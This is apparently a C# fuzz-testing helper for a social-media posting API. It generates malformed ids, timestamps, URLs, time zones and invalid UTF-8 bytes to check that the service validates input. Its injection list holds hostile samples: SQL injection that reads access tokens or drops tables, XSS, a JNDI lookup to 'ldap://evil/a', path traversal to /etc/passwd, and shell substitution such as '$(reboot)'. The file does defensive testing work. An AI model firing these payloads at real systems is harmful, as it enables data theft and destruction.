using System.Text;
using Google.Protobuf;
using Google.Protobuf.WellKnownTypes;
using SocialSync.Posts.V1;

namespace SocialSync.Abuse.Tests;

/// <summary>
/// One generated malformed request. <see cref="Field"/> is the field the generator broke: an INVALID_ARGUMENT must
/// name it. <see cref="MayBeNotFound"/>: the broken value still parses as an id, so NOT_FOUND is the precise answer.
/// <see cref="UndecodableWire"/>: the bytes are not a valid protobuf message at all (checked with the real parser).
/// </summary>
public sealed record FuzzCase(string Name, string? Field, bool MayBeNotFound, Func<Task<FuzzOutcome>> Run, bool UndecodableWire = false);

/// <summary>What came back: a gRPC status (and the fields an INVALID_ARGUMENT named) or an HTTP status and body.</summary>
public sealed record FuzzOutcome(string Transport, string Status, IReadOnlyList<string> Fields, string Detail, bool Succeeded);

/// <summary>Seeded values that break a field: boundaries, huge strings, bad ids and times, injection fragments.</summary>
public sealed class BadValues(int seed)
{
    public Random Random { get; } = new(seed);

    public static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE scheduled_posts; --", "\" OR \"\"=\"", "1; select pg_sleep(10)--", "' UNION SELECT access_token_encrypted FROM channels --",
        "<script>alert(1)</script>", "javascript:alert(document.cookie)", "<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil/a}",
        "../../../../etc/passwd", "%00", "%27%22", "\\x00\\x01", "$(reboot)", "`id`", "null", "undefined", "NaN", "-1", "99999999999999999999",
        "\u202Egnp.exe", "\uFEFF", "\u0000", "a\u0000b", "😀😀😀", "ﷺ", "\r\n\r\nHTTP/1.1 200 OK", "%s%s%s%n",
    ];

    public string Huge(int min, int max) => new((char)('a' + Random.Next(26)), Random.Next(min, max));

    public string RandomUnicode(int length)
    {
        var s = new StringBuilder();
        for (var i = 0; i < length; i++)
        {
            var c = (char)Random.Next(0x20, 0xD7FF);
            s.Append(c);
        }
        return s.ToString();
    }

    /// <summary>Something that is not an id; sometimes something .NET still reads as one (then NOT_FOUND is right).</summary>
    public string Id() => Random.Next(14) switch
    {
        0 => "",
        1 => "not-a-uuid",
        2 => "123",
        3 => Guid.NewGuid().ToString()[..35] + "g",
        4 => Guid.NewGuid() + "x",
        5 => " " + Guid.NewGuid() + "'",
        6 => Pick(Injections),
        7 => Huge(1000, 100_000),
        8 => RandomUnicode(Random.Next(1, 60)),
        9 => "{" + Guid.NewGuid() + "}",
        10 => Guid.NewGuid().ToString("N"),
        11 => Guid.Empty.ToString(),
        12 => Guid.NewGuid().ToString(),
        _ => "00000000-0000-0000-0000-0000000000001",
    };

    public Timestamp? BadTime()
    {
        var now = DateTimeOffset.UtcNow.ToUnixTimeSeconds();
        return Random.Next(11) switch
        {
            0 => null,
            1 => new Timestamp { Seconds = 0 },
            2 => new Timestamp { Seconds = now - 3600 },
            3 => new Timestamp { Seconds = -62135596801 },
            4 => new Timestamp { Seconds = 253402300800 },
            5 => new Timestamp { Seconds = long.MaxValue },
            6 => new Timestamp { Seconds = long.MinValue },
            7 => new Timestamp { Seconds = now + 3600, Nanos = -1 },
            8 => new Timestamp { Seconds = now + 3600, Nanos = 1_000_000_000 },
            9 => new Timestamp { Seconds = now + 3L * 366 * 86400 },
            _ => new Timestamp { Seconds = now - 86400 * 365, Nanos = int.MaxValue },
        };
    }

    public int BadPageSize() => Pick([-1, 101, 1000, int.MaxValue, int.MinValue, -100]);

    // 12: one past the last post status (draft, pending_approval, rejected and expired took 8 to 11).
    public int BadEnum() => Pick([-1, 99, 1000, int.MaxValue, int.MinValue, 12, 17]);

    public T Pick<T>(IReadOnlyList<T> values) => values[Random.Next(values.Count)];

    public string BadUrl() => Random.Next(10) switch
    {
        0 => "",
        1 => "javascript:alert(1)",
        2 => "ftp://example.com/a.jpg",
        3 => "/relative/path.jpg",
        4 => "http://",
        5 => "https://example.com/" + Huge(2100, 5000),
        6 => "file:///etc/passwd",
        7 => "data:image/png;base64,AAAA",
        8 => Pick(Injections),
        _ => "https:// exa mple.com/x.jpg",
    };

    public string BadTimeZone() => Pick(["Mars/Olympus_Mons", "UTC'; DROP TABLE x;--", "../../etc/localtime", Huge(100, 5000), "Europe/", "+25:00", "\u0000"]);

    public string BadRule() => Pick(["FREQ=SOMETIMES", "RRULE:FREQ=DAILY;COUNT=-5", "FREQ=DAILY;INTERVAL=0", Huge(2000, 10_000), "' OR 1=1 --", "BYDAY=XX", "FREQ=SECONDLY"]);

    /// <summary>Bytes that are not UTF-8: lone continuation bytes, overlong forms, surrogates, truncated sequences.</summary>
    public byte[] InvalidUtf8()
    {
        byte[][] samples =
        [
            [0xC3, 0x28], [0xA0, 0xA1], [0xE2, 0x28, 0xA1], [0xF0, 0x28, 0x8C, 0xBC], [0xFF], [0xFE, 0xFF],
            [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0xE2, 0x82],
        ];
        var prefix = Encoding.UTF8.GetBytes(Pick(["", "abc", "11111111-2222"]));
        return [.. prefix, .. Pick(samples), .. prefix];
    }

    /// <summary>A length-delimited protobuf field whose payload is raw bytes (a string field with bytes that are not UTF-8).</summary>
    public static void WriteRawString(CodedOutputStream output, int field, byte[] bytes)
    {
        output.WriteTag(field, WireFormat.WireType.LengthDelimited);
        output.WriteBytes(ByteString.CopyFrom(bytes));
    }
}
